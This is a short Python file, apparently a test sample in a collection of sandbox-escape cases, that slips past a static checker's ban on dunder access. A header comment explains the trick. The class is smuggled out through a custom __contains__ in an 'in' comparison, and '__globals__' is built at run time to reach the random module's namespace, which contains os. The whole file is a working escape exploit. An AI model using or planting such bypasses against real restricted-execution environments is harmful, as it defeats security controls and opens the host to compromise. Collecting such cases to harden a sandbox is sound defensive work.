# family: dunder
# Escape: `x.__class__` is allowed in a comparison (an "operand"); only type(x) got a rule about what it is
# compared with. `probe.__class__ in bag` hands the attrgetter class to bag.__contains__, which keeps it; it
# then reads random.seed.__globals__ (run-time name): the random module's namespace, with _os in it.
import operator
import random


class Bag:
    def __contains__(self, item):
        self.item = item
        return False


def tool() -> list:
    bag = Bag()
    probe = operator.attrgetter("real")
    probe.__class__ in bag
    edge = "_" * 2
    return sorted(bag.item(edge + "globals" + edge)(random.seed))
